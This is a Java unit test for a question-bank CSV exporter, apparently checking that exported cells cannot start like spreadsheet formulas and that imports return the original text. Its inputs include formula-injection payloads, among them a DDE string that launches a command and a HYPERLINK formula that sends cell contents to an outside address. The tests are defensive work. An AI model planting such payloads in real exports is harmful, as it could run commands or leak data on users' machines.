package dev.hotseat.bankfile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hotseat.bank.Bank;
import dev.hotseat.bank.CriterionAnchors;
import dev.hotseat.bank.Difficulty;
import dev.hotseat.bank.Question;
import dev.hotseat.bank.Section;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a bank's words begin with, a spreadsheet that opens the export runs nothing, and an import has the same words again. */
class FormulasTest {
    private static final String FORMULA = "(?s)[\\s\\p{Cc}\\p{Z}\\uFEFF\"]*[=+\\-@\\uFF1D\\uFF0B\\uFF0D\\uFF20].*|[\\t\\r\\n].*";

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\"=1+1", "'=1+1", "''=1", "\" =1\"", "' "
            + "+1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)",
        "\"\uFF1D1", "=HYPERLINK(\"http://192.0.2.1/\"&A1)", "'plain", "''", "-", "- item\n- item"})
    void noCellBeginsLikeOneAndEveryWordComesBack(String words) throws IOException {
        var question = new Question(words, words, List.of(words, words), List.of(words), List.of(words), 5, Difficulty.EASY, List.of(),
                List.of(new CriterionAnchors("Depth", words, words, words, words)));
        var bank = new Bank(words.lines().findFirst().orElseThrow(), words, List.of(new Section(words.lines().findFirst().orElseThrow(), List.of(question))));
        var written = BankFile.write(bank, BankFormat.CSV);
        var text = new String(written, StandardCharsets.UTF_8).substring(1);
        try (var cells = CSVParser.parse(new StringReader(text), CSVFormat.DEFAULT)) {
            assertThat(cells.getRecords().get(1).stream()).hasSize(CsvWriter.HEADER.length).noneMatch(cell -> cell.matches(FORMULA));
        }
        assertThat(BankFile.read(written, "again.csv").bank()).isEqualTo(bank);
    }

    /** What an import strips from every text stands before a formula only in a bank that came by the API. */
    @ParameterizedTest
    @ValueSource(strings = {" =1+1", "\t=1", "\r=1", "\n=1", "\u00A0=1", "\u3000\uFF1D1", "\uFEFF=1", "\u0001=1", "\tx", "\nx"})
    void spacesBeforeOneHideNothing(String words) {
        assertThat(CsvWriter.harmless(words)).isEqualTo("'" + words);
        assertThat(CsvWriter.plain("'" + words)).isEqualTo(words);
    }
}
